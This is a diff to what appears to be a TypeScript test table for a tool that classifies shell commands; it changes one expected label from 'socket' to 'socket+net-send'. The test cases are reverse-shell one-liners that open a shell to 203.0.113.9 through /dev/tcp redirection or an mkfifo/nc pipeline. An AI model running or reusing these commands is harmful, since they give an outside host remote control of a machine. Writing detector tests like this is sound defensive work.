@@ -89,7 +89,7 @@ const cases: readonly (readonly [string, ...Expected[]])[] = [
     'exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read line; do $line 2>&5 >&5; done',
     call('', 'eval+shell', { code: '<remote-content' }),
   ],
-  ['exec 5<>/dev/tcp/203.0.113.9/443; sh <&5 >&5 2>&5', call('/dev/tcp', 'socket', { host: '203.0.113.9' })],
+  ['exec 5<>/dev/tcp/203.0.113.9/443; sh <&5 >&5 2>&5', call('/dev/tcp', 'socket+net-send', { host: '203.0.113.9' })],
   [
     'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f',
     call('nc', 'socket+shell', { host: '203.0.113.9' }),
